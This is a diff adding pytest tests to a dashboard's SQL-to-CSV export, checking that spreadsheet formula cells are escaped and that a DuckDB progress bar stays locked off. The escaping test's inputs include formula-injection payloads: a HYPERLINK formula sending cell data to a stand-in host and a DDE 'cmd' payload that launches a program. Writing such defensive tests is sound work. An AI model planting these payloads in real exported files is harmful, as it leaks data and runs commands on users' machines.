@@ -2,12 +2,18 @@
 
 from __future__ import annotations
 
+import csv
 import http.server
+import io
 import json
+import subprocess
+import sys
 import threading
 from collections.abc import Iterator
 from pathlib import Path
+from urllib.parse import urlencode
 
+import duckdb
 import pytest
 
 from dashboard.conftest import Served
@@ -148,3 +154,30 @@ def test_csv_download_has_header_rows_and_quoting(served: Served) -> None:
     assert headers["content-type"].startswith("text/csv")
     assert "attachment" in headers["content-disposition"]
     assert body.decode().splitlines() == ["x,y", '"a,b",2']
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_text(served: Served) -> None:
+    """Text starting with = + - @, a tab or a CR is prefixed with ' in the CSV, headers too; numbers stay numbers."""
+    values = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1", "\tx", "\rx"]
+    columns = ", ".join(f"'{v.replace(chr(39), chr(39) * 2)}' AS c{i}" for i, v in enumerate(values))
+    sql = f"SELECT {columns}, -5 AS n, 'plain' AS p, '=1' AS \"=cmd\""
+    status, _, body = served.request("GET", "/api/sql.csv?" + urlencode({"q": sql}))
+    assert status == 200, body
+    header, row = list(csv.reader(io.StringIO(body.decode(), newline="")))
+    assert header == [*(f"c{i}" for i in range(len(values))), "n", "p", "'=cmd"]
+    assert row == [*("'" + v for v in values), "-5", "plain", "'=1"]
+
+
+def test_progress_bar_is_off_and_stays_off(served: Served, tmp_path: Path) -> None:
+    """Long queries draw no progress bar on the server's stdout, and a query cannot turn it back on."""
+    # DuckDB turns the bar off by itself under pytest, so ask a process of its own.
+    warehouse = tmp_path / "warehouse.duckdb"
+    duckdb.connect(str(warehouse)).close()
+    code = (
+        "import sys; from tallystick.dashboard.reader import Reader; "
+        "print(Reader(sys.argv[1]).run(lambda con: con.scalar(\"SELECT current_setting('enable_progress_bar')\")))"
+    )
+    shown = subprocess.run([sys.executable, "-c", code, str(warehouse)], capture_output=True, text=True, timeout=60)
+    assert shown.stdout.strip() == "False", shown.stderr
+    status, body = run_sql(served, "SET enable_progress_bar = true")
+    assert status == 400 and "locked" in str(body["message"])
